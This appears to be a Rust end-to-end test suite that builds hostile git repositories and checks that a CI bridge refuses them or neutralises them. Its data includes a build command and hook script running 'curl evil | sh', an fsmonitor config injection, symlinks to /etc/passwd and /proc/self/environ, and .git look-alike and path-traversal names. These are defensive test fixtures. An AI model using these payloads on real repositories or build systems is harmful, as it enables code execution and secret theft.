//! Hostile repositories, each built object by object (raw trees, so that names git's own
//! tools refuse can be made), served over smart HTTP and put through the whole work stage:
//! fetch, buildspec, archive, store, start. Each ends safely with a clear outcome: built
//! with the dangerous part neutralised (links stored as links, never followed; submodules
//! left out), or refused with a reason that says why (a name git refuses — `..`, `a/b` in one
//! name, `.git` and its look-alikes — is refused with its path). The archives built are then
//! unpacked by several extractors (`hostile_trees`), each checked on disk.
//!
//! `cargo test -p e2e-tests --test e2e hostile -- --nocapture` prints the table that
//! docs/reliability.md shows.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::Path;

use bridge_core::archive::ArchiveLimits;
use bridge_core::config::LocalConfig;
use bridge_core::forge::LogStatus;
use bridge_core::work::{Disposition, Ending, WorkSettings, Worker};
use bridge_git::GitFetcher;
use bridge_local::{DirectoryStore, LocalPipeline, StaticSecrets};
use e2e_tests::git_server::GitServer;
use e2e_tests::temp_dir;

const BUILDSPEC: &[u8] = b"version: 0.2\nphases:\n  build:\n    commands: [make]\n";

/// A tree entry's object (and mode), written raw: any name, any mode (the generated trees
/// of `hostile_trees` use these too).
#[derive(Debug, Clone)]
pub(crate) enum Node {
    Blob(Vec<u8>),
    /// A blob of `len` zero bytes, streamed into the object database.
    Zeros(usize),
    Link(&'static str),
    Dir(Vec<(Vec<u8>, Node)>),
    Submodule,
    /// A link whose target is this many zero bytes.
    ZerosLink(usize),
    /// `object` under a mode of one's choosing (the octal text as written in the tree:
    /// `100600`, `040000`, or a file mode for a tree).
    Raw {
        mode: String,
        object: Box<Node>,
    },
}

/// A folder's entries: name bytes and what they hold.
pub(crate) type Entries = Vec<(Vec<u8>, Node)>;

/// Writes `node` as raw objects; returns (mode, id).
pub(crate) fn write(odb: &git2::Odb, node: &Node) -> (String, git2::Oid) {
    let (mode, oid) = match node {
        Node::Raw { mode, object } => return (mode.clone(), write(odb, object).1),
        Node::Blob(content) => ("100644", odb.write(git2::ObjectType::Blob, content).expect("blob")),
        Node::Zeros(len) => {
            let mut writer = odb.writer(*len, git2::ObjectType::Blob).expect("writer");
            let chunk = vec![0u8; 1 << 20];
            let mut left = *len;
            while left > 0 {
                let n = left.min(chunk.len());
                std::io::Write::write_all(&mut writer, &chunk[..n]).expect("zeros");
                left -= n;
            }
            ("100644", writer.finalize().expect("finalize"))
        }
        Node::ZerosLink(len) => ("120000", write(odb, &Node::Zeros(*len)).1),
        Node::Link(target) => ("120000", odb.write(git2::ObjectType::Blob, target.as_bytes()).expect("link")),
        Node::Submodule => ("160000", git2::Oid::from_str("0123456789abcdef0123456789abcdef01234567").expect("oid")),
        Node::Dir(entries) => {
            let mut written: Vec<(Vec<u8>, String, git2::Oid)> = entries
                .iter()
                .map(|(name, node)| (name.clone(), write(odb, node)))
                .map(|(n, (m, o))| (n, m, o))
                .collect();
            // Git's order: names compared as if directories ended in '/'.
            let key = |name: &[u8], mode: &str| {
                let mut k = name.to_vec();
                if mode == "40000" {
                    k.push(b'/');
                }
                k
            };
            written.sort_by_key(|entry| key(&entry.0, &entry.1));
            let mut raw = Vec::new();
            for (name, mode, oid) in written {
                raw.extend_from_slice(mode.as_bytes());
                raw.push(b' ');
                raw.extend_from_slice(&name);
                raw.push(0);
                raw.extend_from_slice(oid.as_bytes());
            }
            ("40000", odb.write(git2::ObjectType::Tree, &raw).expect("tree"))
        }
    };
    (mode.to_owned(), oid)
}

/// Writes `entries` as a tree and a commit of it in `repo`; returns the commit.
pub(crate) fn commit_entries(repo: &git2::Repository, message: &str, entries: Entries) -> git2::Oid {
    let odb = repo.odb().expect("odb");
    let (_, tree) = write(&odb, &Node::Dir(entries));
    let commit = format!(
        "tree {tree}\nauthor Mallory <m@example.org> 1700000000 +0000\ncommitter Mallory <m@example.org> 1700000000 +0000\n\n{message}\n"
    );
    odb.write(git2::ObjectType::Commit, commit.as_bytes()).expect("commit")
}

/// `<root>/<name>.git`: one commit on `main` (its HEAD) holding `entries`; returns the commit.
fn hostile_repo(root: &Path, name: &str, entries: Entries) -> String {
    let repo = git2::Repository::init_bare(root.join(format!("{name}.git"))).expect("init");
    // git ≥ 2.43 refuses to pack trees deeper than 4096 by default; this server must serve
    // the deep one, so that the bridge's own handling is what is tested.
    repo.config().and_then(|mut c| c.set_i64("core.maxTreeDepth", 100_000)).expect("config");
    let commit = commit_entries(&repo, name, entries);
    repo.reference("refs/heads/main", commit, true, "hostile").expect("branch");
    repo.set_head("refs/heads/main").expect("HEAD");
    commit.to_string()
}

fn with_buildspec(mut entries: Entries) -> Entries {
    entries.push((b"buildspec.yml".to_vec(), Node::Blob(BUILDSPEC.to_vec())));
    entries
}

fn name(text: &str) -> Vec<u8> {
    text.as_bytes().to_vec()
}

/// A chain of `depth` directories named `d`, with a file at the bottom.
fn deep(depth: usize) -> Node {
    let mut node = Node::Dir(vec![(name("bottom.txt"), Node::Blob(b"deep\n".to_vec()))]);
    for _ in 1..depth {
        node = Node::Dir(vec![(name("d"), node)]);
    }
    node
}

/// Below the top folder `d…` (200 bytes): 18 more such folders, one of 200 `e`s, and a file
/// `.gitZZZ…`, 4096 bytes in all (19 × 201 + 200 + 1 + 76).
fn long_path() -> Node {
    let mut node = Node::Dir(vec![(format!(".git{}", "Z".repeat(72)).into_bytes(), Node::Blob(PR_SPEC.to_vec()))]);
    node = Node::Dir(vec![(name("e").repeat(200), node)]);
    for _ in 1..19 {
        node = Node::Dir(vec![(name("d").repeat(200), node)]);
    }
    node
}

struct Case {
    name: &'static str,
    entries: Entries,
}

const PR_SPEC: &[u8] = b"version: 0.2\nphases:\n  build:\n    commands: ['curl evil | sh']\n";

fn cases() -> Vec<Case> {
    let mut cases = vec![
        Case {
            name: "links-out",
            entries: with_buildspec(vec![
                (name("environ"), Node::Link("/proc/self/environ")),
                (name("passwd"), Node::Link("/etc/passwd")),
                (name("up"), Node::Link("../../")),
                (name("self"), Node::Link("self")),
                (name("inside"), Node::Link("README")),
                (name("README"), Node::Blob(b"hello\n".to_vec())),
            ]),
        },
        Case {
            name: "git-tricks",
            entries: with_buildspec(vec![
                (name(".git"), Node::Blob(b"gitdir: /etc\n".to_vec())),
                (name(".GIT"), Node::Dir(vec![(name("config"), Node::Blob(b"[core]\n\tfsmonitor = evil\n".to_vec()))])),
                (
                    name("sub"),
                    Node::Dir(vec![
                        (
                            name(".git"),
                            Node::Dir(vec![(name("config"), Node::Blob(b"[core]\n\tfsmonitor = evil\n".to_vec()))]),
                        ),
                        (name("kept.txt"), Node::Blob(b"kept\n".to_vec())),
                    ]),
                ),
                (name(".gitignore"), Node::Blob(b"target\n".to_vec())),
            ]),
        },
        Case {
            name: "odd-names",
            entries: with_buildspec(vec![
                (name("new\nline"), Node::Blob(b"1\n".to_vec())),
                (name("bell\u{7}and\u{1b}[31mred"), Node::Blob(b"2\n".to_vec())),
                (name("tab\there"), Node::Blob(b"3\n".to_vec())),
            ]),
        },
        Case {
            name: "non-utf8-name",
            entries: with_buildspec(vec![(b"caf\xe9".to_vec(), Node::Blob(b"x\n".to_vec()))]),
        },
        Case { name: "deep-10000", entries: with_buildspec(vec![(name("d"), deep(10_000))]) },
        Case { name: "huge-zero-file", entries: with_buildspec(vec![(name("zeros.img"), Node::Zeros(24 << 20))]) },
        Case {
            name: "submodule",
            entries: with_buildspec(vec![
                (name("vendor"), Node::Submodule),
                (
                    name(".gitmodules"),
                    Node::Blob(
                        b"[submodule \"vendor\"]\n\tpath = vendor\n\turl = https://evil.example/x.git\n".to_vec(),
                    ),
                ),
            ]),
        },
        Case { name: "buildspec-is-a-link", entries: vec![(name("buildspec.yml"), Node::Link("/etc/passwd"))] },
        Case { name: "huge-link", entries: with_buildspec(vec![(name("link"), Node::ZerosLink(8 << 20))]) },
    ];
    // The issue's names and git's other look-alikes, each in a repository of its own.
    let evil = || Node::Blob(PR_SPEC.to_vec());
    let repository = |files: Entries| Node::Dir(files);
    let git_config = || (name("config"), Node::Blob(b"[core]\n\tfsmonitor = curl evil | sh\n".to_vec()));
    let hook = || {
        let script =
            Node::Raw { mode: "100755".into(), object: Box::new(Node::Blob(b"#!/bin/sh\ncurl evil | sh\n".to_vec())) };
        (name("hooks"), Node::Dir(vec![(name("post-checkout"), script)]))
    };
    let named: Vec<(&'static str, Entries)> = vec![
        ("slash-in-name", vec![(name("zz/../buildspec.yml"), evil())]),
        ("dotdot-folder", vec![(name(".."), Node::Dir(vec![(name("buildspec.yml"), evil())]))]),
        ("nested-dotgit", vec![(name("a"), Node::Dir(vec![(name(".git"), repository(vec![git_config(), hook()]))]))]),
        ("absolute-name", vec![(name("/abs-path.txt"), evil())]),
        ("dotdot-name", vec![(name(".."), evil())]),
        ("dotgit-upper-dots", vec![(name(".GIT. ."), repository(vec![git_config()]))]),
        ("dotgit-short-name", vec![(name("git~1"), repository(vec![git_config(), hook()]))]),
        ("dotgit-stream", vec![(name(".git::$INDEX_ALLOCATION"), repository(vec![git_config()]))]),
        ("dotgit-hfs", vec![(name("d"), Node::Dir(vec![(name(".g\u{200c}it"), repository(vec![hook()]))]))]),
        ("duplicate-names", vec![(name("src"), evil()), (name("src"), Node::Dir(vec![(name("x"), evil())]))]),
        ("gitmodules-link", vec![(name(".gitmodules"), Node::Link("/etc/passwd"))]),
        ("backslash-name", vec![(name("..\\buildspec.yml"), evil())]),
        ("drive-letter", vec![(name("c:buildspec.yml"), evil())]),
        ("control-character", vec![(name("buildspec.yml\u{7}"), evil())]),
        // Info-ZIP unzip cuts `;` and digits from a name's end (a VMS version).
        ("vms-version", vec![(name("buildspec.yml;1"), evil())]),
        ("vms-dotgit", vec![(name(".git;"), repository(vec![git_config(), hook()]))]),
        ("vms-dotgit-upper", vec![(name(".GIT;1"), Node::Blob(b"gitdir: /etc\n".to_vec()))]),
        ("vms-in-folder", vec![(name("ci"), Node::Dir(vec![(name("buildspec.yml;7"), evil())]))]),
        ("vms-bare", vec![(name(";"), evil())]),
        ("long-name", vec![("n".repeat(256).into_bytes(), evil())]),
        // The attacker's path: 4096 bytes, which unzip cuts at PATH_MAX to a file `.git`.
        ("long-path", vec![(name("d").repeat(200), long_path())]),
    ];
    cases.extend(named.into_iter().map(|(name, entries)| Case { name, entries: with_buildspec(entries) }));
    cases
}

/// The cases refused for a name: (case, the path the flag names, the rule it cites).
const REFUSED_NAMES: &[(&str, &str, &str)] = &[
    ("git-tricks", ".GIT", "hasDotgit"),
    // Info-ZIP drops control characters: `buildspec.yml\u{7}` would land on the injected file.
    ("odd-names", "bell\u{7}and\u{1b}[31mred", "control character"),
    ("slash-in-name", "zz/../buildspec.yml", "fullPathname"),
    ("dotdot-folder", "..", "hasDotdot"),
    ("nested-dotgit", "a/.git", "hasDotgit"),
    ("absolute-name", "/abs-path.txt", "fullPathname"),
    ("dotdot-name", "..", "hasDotdot"),
    ("dotgit-upper-dots", ".GIT. .", "hasDotgit"),
    ("dotgit-short-name", "git~1", "hasDotgit"),
    ("dotgit-stream", ".git::$INDEX_ALLOCATION", "hasDotgit"),
    ("dotgit-hfs", "d/.g\u{200c}it", "hasDotgit"),
    ("duplicate-names", "src", "duplicateEntries"),
    ("gitmodules-link", ".gitmodules", "gitmodulesSymlink"),
    ("backslash-name", "..\\buildspec.yml", "separator"),
    ("drive-letter", "c:buildspec.yml", "drive letter"),
    ("control-character", "buildspec.yml\u{7}", "control character"),
    ("vms-version", "buildspec.yml;1", "VMS version"),
    ("vms-dotgit", ".git;", "VMS version"),
    ("vms-dotgit-upper", ".GIT;1", "VMS version"),
    ("vms-in-folder", "ci/buildspec.yml;7", "VMS version"),
    ("vms-bare", ";", "VMS version"),
];

fn config(git: &str, artifacts: &Path) -> LocalConfig {
    let mut text = format!("[secrets]\nfile = \"unused.json\"\n[work]\nartifacts_dir = \"{}\"\n", artifacts.display());
    for case in cases() {
        let key = case.name;
        text.push_str(&format!(
            "[projects.{key}]\npagure_url = \"http://127.0.0.1:5600/\"\ngit_url = \"{git}\"\nproject = \"{key}\"\npipeline = \"{key}-ci\"\nallow_insecure_git_url = true\n"
        ));
    }
    LocalConfig::parse(&text, Path::new("/")).expect("config")
}

/// The archive's entries: name → (content or link target, unix mode, is a link).
fn unzip(path: &Path) -> BTreeMap<String, (Vec<u8>, u32, bool)> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).expect("zip")).expect("archive");
    let mut out = BTreeMap::new();
    for i in 0..zip.len() {
        let mut file = zip.by_index(i).expect("entry");
        let mut content = Vec::new();
        file.read_to_end(&mut content).expect("read");
        out.insert(
            file.name().expect("name").into_owned(),
            (content, file.unix_mode().unwrap_or(0), file.is_symlink()),
        );
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_repositories_end_safely_with_a_clear_outcome() {
    let root = temp_dir("hostile-git");
    // Building (and dropping) 10,000 nested trees recurses as deep: a thread with room for it.
    let made = root.clone();
    let commits: BTreeMap<&str, String> = std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || {
            cases().into_iter().map(|case| (case.name, hostile_repo(&made, case.name, case.entries))).collect()
        })
        .expect("thread")
        .join()
        .expect("repositories");
    let server = GitServer::start(&root).await;
    let artifacts = temp_dir("hostile-artifacts");
    let config = config(&server.base, &artifacts);
    let settings = WorkSettings {
        archive: ArchiveLimits { max_bytes: 16 << 20, ..ArchiveLimits::default() },
        ..WorkSettings::with_limits(&config.work)
    };
    let pipeline = LocalPipeline::new("http://127.0.0.1/");
    let worker = Worker::new(
        config.accept.clone(),
        settings,
        GitFetcher::new(temp_dir("hostile-scratch")),
        DirectoryStore::new(&artifacts),
        pipeline.clone(),
        LogStatus,
        StaticSecrets::new(bridge_core::ports::SecretsDocument::parse(r#"{"projects": {}}"#).expect("secrets")),
    );

    let mut table = String::from("| repository | outcome | detail |\n|---|---|---|\n");
    // The archives built: (case, zip, the injected buildspec as archived).
    let mut extracted = Vec::new();
    for case in cases() {
        let repo = server.url(&format!("{}.git", case.name));
        let request = crate::local_pipeline::build_request(&config, case.name, &commits[case.name], repo, "main", None);
        let disposition = worker.handle(&request, true).await;
        let zip = artifacts.join(format!("sources/{}/{}.zip", case.name, request.request_id));
        let detail = match (case.name, &disposition) {
            ("links-out", Disposition::Done(Ending::Started { .. })) => {
                let entries = unzip(&zip);
                for (link, target) in
                    [("environ", "/proc/self/environ"), ("passwd", "/etc/passwd"), ("up", "../../"), ("self", "self")]
                {
                    let (content, _, is_link) = &entries[link];
                    assert!(is_link, "{link} is stored as a link");
                    assert_eq!(content, target.as_bytes(), "{link}: the link's target, not what it points at");
                }
                assert_eq!(entries["README"].0, b"hello\n");
                extracted.push((case.name, zip.clone(), entries["buildspec.yml"].0.clone()));
                "4 links out of the tree stored as links (target text only); nothing outside read".to_owned()
            }
            (name, Disposition::Done(Ending::Failed { reason, .. }))
                if let Some((_, path, rule)) = REFUSED_NAMES.iter().find(|(case, _, _)| *case == name) =>
            {
                assert!(reason.contains(&format!("the tree entry {path:?} is refused")), "{name}: {reason}");
                assert!(reason.contains(rule), "{name}: {reason}");
                reason.clone()
            }
            ("non-utf8-name", Disposition::Done(Ending::Failed { reason, .. })) => {
                assert!(reason.contains("not UTF-8"), "{reason}");
                reason.clone()
            }
            ("deep-10000", Disposition::Done(Ending::Failed { reason, .. })) => {
                assert!(reason.contains("a path of 1025 bytes is longer than 1024 bytes"), "{reason}");
                format!(
                    "{reason} (10,000 nested folders; the walk stops at the first path over the limit, 513 levels down)"
                )
            }
            ("long-name", Disposition::Done(Ending::Failed { reason, .. })) => {
                let path = "n".repeat(256);
                assert!(reason.contains(&format!("the tree entry {path:?} is refused")), "{reason}");
                assert!(reason.contains("NAME_MAX"), "{reason}");
                reason.replace(&path, "n…n (256 bytes)")
            }
            ("long-path", Disposition::Done(Ending::Failed { reason, .. })) => {
                assert!(reason.contains("a path of 1205 bytes is longer than 1024 bytes"), "{reason}");
                assert!(reason.contains(&format!("{}…", "d".repeat(60))), "names the path's start: {reason}");
                format!(
                    "{} (a 4096-byte path ending in `e…e/.gitZ…`, which unzip cuts to a file `.git`)",
                    reason.replace(&"d".repeat(60), "d…d")
                )
            }
            ("huge-zero-file", Disposition::Done(Ending::Failed { reason, .. })) => {
                assert!(reason.contains("more than 16777216 bytes"), "{reason}");
                format!("{reason} (24 MiB of zeros, refused from its size before inflating)")
            }
            ("submodule", Disposition::Done(Ending::Started { .. })) => {
                let entries = unzip(&zip);
                assert!(!entries.contains_key("vendor") && !entries.contains_key("vendor/"), "{:?}", entries.keys());
                extracted.push((case.name, zip.clone(), entries["buildspec.yml"].0.clone()));
                "the submodule entry is left out (never fetched); `.gitmodules` kept as a file".to_owned()
            }
            ("buildspec-is-a-link", Disposition::Done(Ending::Failed { reason, .. })) => {
                assert!(reason.contains("not a regular file"), "{reason}");
                reason.clone()
            }
            ("huge-link", Disposition::Done(Ending::Failed { reason, .. })) => {
                assert!(reason.contains("the link `link` has a target longer than 4096 bytes"), "{reason}");
                format!("{reason} (8 MiB target, refused from its size before reading it)")
            }
            (name, other) => panic!("{name}: unexpected {other:?}"),
        };
        let outcome = match &disposition {
            Disposition::Done(Ending::Started { .. }) => "built",
            Disposition::Done(Ending::Failed { .. }) => "refused (error flag)",
            _ => unreachable!("checked above"),
        };
        table.push_str(&format!("| {} | {outcome} | {} |\n", case.name, detail.replace('\n', " ").replace('|', "\\|")));
    }
    println!("{table}");
    assert_eq!(pipeline.runs().len(), 2, "the two safe repositories were built, nothing else");
    // What CodeBuild would unpack, unpacked by several extractors: nothing lands outside the
    // folder or through a link, no `.git`, the buildspec is the injected one.
    let extractors = crate::hostile_trees::extractors();
    let mut unpacked = format!(
        "| built archive | {} |\n|---|{}\n",
        extractors.iter().map(|e| e.name).collect::<Vec<_>>().join(" | "),
        "---|".repeat(extractors.len())
    );
    for (name, zip, injected) in &extracted {
        assert!(
            injected.windows(b"PAGURE_COMMIT".len()).any(|w| w == b"PAGURE_COMMIT") && injected.as_slice() != BUILDSPEC,
            "{name}: the archived buildspec is the injected one"
        );
        let notes: Vec<String> = extractors
            .iter()
            .map(|e| crate::hostile_trees::extract_and_check(e, zip, "buildspec.yml", injected))
            .collect();
        unpacked.push_str(&format!("| {name} | {} |\n", notes.join(" | ")));
    }
    println!("{unpacked}");
}
